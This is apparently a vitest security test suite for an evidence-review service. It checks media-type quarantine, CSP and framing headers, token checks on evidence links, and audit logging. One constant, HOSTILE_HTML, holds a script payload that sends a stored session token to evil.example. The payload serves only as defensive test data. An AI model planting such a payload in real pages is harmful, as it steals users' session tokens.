import { createHash } from 'node:crypto';
import { jetstream } from '@nats-io/jetstream';
import { Objm } from '@nats-io/obj';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EVIDENCE_BUCKET, InfractionEvent, evidenceObjectKey, keyIdOf } from '../../proto/index.js';
import type { EvidenceRef } from '../../proto/index.js';
import type { ApiClient } from '../../cli/api-client.js';
import { countEvents } from '../../core/index.js';
import { entriesFor } from '../../core/audit/audit-repo.js';
import { storeVerifiedEvent } from '../../core/ingest/store.js';
import { makeEvent, subjectOf, testDeviceKey } from '../harness/events.js';
import { ingestEvents, openAndView, REVIEW_OVERRIDES } from '../harness/review.js';
import { startTestStack } from '../harness/stack.js';
import type { TestStack } from '../harness/stack.js';
import { waitFor } from '../harness/temp.js';
import { testHttps } from '../harness/pki.js';

const HOSTILE_HTML =
  '<!doctype html><script>fetch("https://evil.example/?t="+sessionStorage.getItem("zebra-token"))</script>';

/** One evidence reference naming `mediaType`, with the object put in the hub's store. */
async function hostileRef(stack: TestStack, eventId: string, mediaType: string): Promise<EvidenceRef> {
  const bytes = Buffer.from(HOSTILE_HTML);
  const objectKey = evidenceObjectKey('site-1', 'cam-9', eventId, 'entry.html');
  const store = await new Objm(stack.nc).create(EVIDENCE_BUCKET, { storage: 'file' });
  await store.putBlob({ name: objectKey }, bytes);
  return {
    objectKey,
    sha256Hex: createHash('sha256').update(bytes).digest('hex'),
    mediaType,
    sizeBytes: bytes.length,
    widthPx: 0,
    heightPx: 0,
    frameCapturedAtMs: Date.now(),
    redaction: undefined,
    clipEndCapturedAtMs: 0,
    clipFrames: 0,
    role: 'entry',
  };
}

describe('evidence and the console are served safely', () => {
  let stack: TestStack;
  let ada: ApiClient;
  let otto: ApiClient;
  let eventId: string;
  let http: string;

  beforeAll(async () => {
    stack = await startTestStack(REVIEW_OVERRIDES);
    ada = await stack.core.person('ada', ['auditor']);
    otto = await stack.core.person('otto', ['auditor']);
    [{ eventId }] = (await ingestEvents(stack, 1)) as [InfractionEvent];
    http = `https://${stack.core.core.httpAddress}`;
  });

  afterAll(async () => {
    await stack?.[Symbol.asyncDispose]();
  });

  /** A fetch-like answer over HTTPS trusting the run's CA (fetch cannot be given a CA). */
  const request = async (url: string, init: Parameters<typeof testHttps>[1] = {}) => {
    const res = await testHttps(url, init);
    const header = (name: string): string | null => {
      const value = res.headers[name.toLowerCase()];
      return value === undefined ? null : Array.isArray(value) ? value.join(', ') : value;
    };
    return {
      status: res.status,
      headers: { get: header },
      text: () => Promise.resolve(res.text()),
      arrayBuffer: () => Promise.resolve(res.body),
    };
  };
  const get = (path: string, token?: string) =>
    request(`${http}${path}`, token ? { headers: { authorization: `Bearer ${token}` } } : {});

  it('quarantines, with a clear reason, an event whose evidence names text/html, and counts it', async () => {
    const { privateKey } = testDeviceKey();
    const base = makeEvent(privateKey, { cameraId: 'cam-9', cameraSeq: 1 });
    const event = makeEvent(privateKey, { ...base, evidence: [await hostileRef(stack, base.eventId, 'text/html')] });
    const before = await countEvents(stack.core.core.db);
    await jetstream(stack.nc).publish(subjectOf(event), InfractionEvent.encode(event).finish(), {
      msgID: event.eventId,
    });
    // Whichever happens: stored or quarantined.
    const outcome = await waitFor('the event stored or quarantined', async () => {
      if ((await countEvents(stack.core.core.db)) > before) return 'stored';
      const { rows } = await stack.core.core.db.query<{ reason_code: string; reason: string }>(
        `SELECT reason_code, reason FROM quarantine WHERE subject = $1`,
        [subjectOf(event)],
      );
      return rows[0];
    });
    expect(outcome).toMatchObject({ reason_code: 'media_type_refused' });
    expect((outcome as { reason: string }).reason).toMatch(/text\/html.*image\/jpeg, video\/webm/);
    const metrics = await (await get('/metrics')).text();
    expect(metrics).toMatch(/zebra_ingest_rejected_total\{reason="media_type_refused"\} 1/);
  });

  it('never serves stored evidence of a type outside the allowlist (stored before the check existed)', async () => {
    const { privateKey, publicKey } = testDeviceKey();
    const base = makeEvent(privateKey, { cameraId: 'cam-8', cameraSeq: 1 });
    const event = makeEvent(privateKey, { ...base, evidence: [await hostileRef(stack, base.eventId, 'text/html')] });
    await stack.core.core.db.transaction((tx) =>
      storeVerifiedEvent(
        tx,
        event,
        { streamSeq: 1_000_000, payload: InfractionEvent.encode(event).finish() },
        keyIdOf(publicKey),
      ),
    );
    const { links } = await openAndView(ada, event.eventId, 'audit sample');
    const res = await get(links[0]!.url, ada.token);
    expect(res.headers.get('content-type') ?? '').not.toMatch(/html/);
    expect(res.status).toBe(415);
    expect(await res.text()).not.toContain('<script>');
  });

  it('serves the console with a strict CSP and refuses framing', async () => {
    const res = await get('/');
    expect(res.status).toBe(200);
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("default-src 'none'");
    expect(csp).toMatch(/script-src 'self'(;|$)/);
    expect(csp).not.toContain('unsafe-inline');
    expect(csp).not.toContain('unsafe-eval');
    expect(res.headers.get('x-frame-options')).toBe('DENY');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
    const script = await get('/app.js');
    expect(script.headers.get('x-content-type-options')).toBe('nosniff');
    expect(script.headers.get('x-frame-options')).toBe('DENY');
  });

  it('sends the security headers on API, health and error responses', async () => {
    const api = await request(`${http}/api/v1/zebra.v1.ReviewService/ListReasons`, {
      method: 'POST',
      headers: { authorization: `Bearer ${ada.token}`, 'content-type': 'application/json' },
      body: '{}',
    });
    const refused = await request(`${http}/api/v1/zebra.v1.ReviewService/ListReasons`, { method: 'POST', body: '{}' });
    expect(api.status).toBe(200);
    expect(refused.status).toBe(401);
    for (const res of [api, refused, await get('/healthz'), await get('/nowhere')]) {
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('x-frame-options')).toBe('DENY');
      expect(res.headers.get('referrer-policy')).toBe('no-referrer');
      expect(res.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
    }
  });

  it('refuses an evidence link without a token or with another user’s token', async () => {
    const { links } = await openAndView(ada, eventId, 'audit sample');
    const anonymous = await get(links[0]!.url);
    expect(anonymous.status).toBe(401);
    expect(await anonymous.text()).not.toContain('evidence of');
    const other = await get(links[0]!.url, otto.token);
    expect(other.status).toBe(403);
    expect(await other.text()).not.toContain('evidence of');
    const garbage = await get(links[0]!.url, 'zbt.0000000000000000.' + 'A'.repeat(43));
    expect(garbage.status).toBe(401);
  });

  it('serves evidence to the ticket’s owner with sandboxing headers, and audits the fetch once per ticket', async () => {
    const { links } = await openAndView(ada, eventId, 'audit sample');
    const fetchedEntries = async () =>
      (await entriesFor(stack.core.core.db, eventId)).filter((e) => e.action === 'evidence.fetched');
    const before = (await fetchedEntries()).length;
    const res = await get(links[0]!.url, ada.token);
    expect(res.status).toBe(200);
    expect(Buffer.from(await res.arrayBuffer()).toString()).toBe(`evidence of ${eventId}`);
    expect(res.headers.get('content-type')).toBe('image/jpeg');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-disposition')).toMatch(/^inline; filename="entry\.jpg"$/);
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain('sandbox');
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.headers.get('cross-origin-resource-policy')).toBe('same-origin');
    const after = await fetchedEntries();
    expect(after).toHaveLength(before + 1);
    expect(after.at(-1)).toMatchObject({
      actor: 'ada',
      subject: eventId,
      details: { objectKey: expect.stringContaining(eventId) as string, purpose: 'audit sample' },
    });
    // The same ticket fetched again (a reload, a byte range): still one entry for it.
    expect((await get(links[0]!.url, ada.token)).status).toBe(200);
    expect(await fetchedEntries()).toHaveLength(before + 1);
    // A new ticket is a new read.
    const again = await openAndView(ada, eventId, 'second look');
    expect((await get(again.links[0]!.url, ada.token)).status).toBe(200);
    expect((await fetchedEntries()).at(-1)).toMatchObject({ actor: 'ada', details: { purpose: 'second look' } });
  });
});
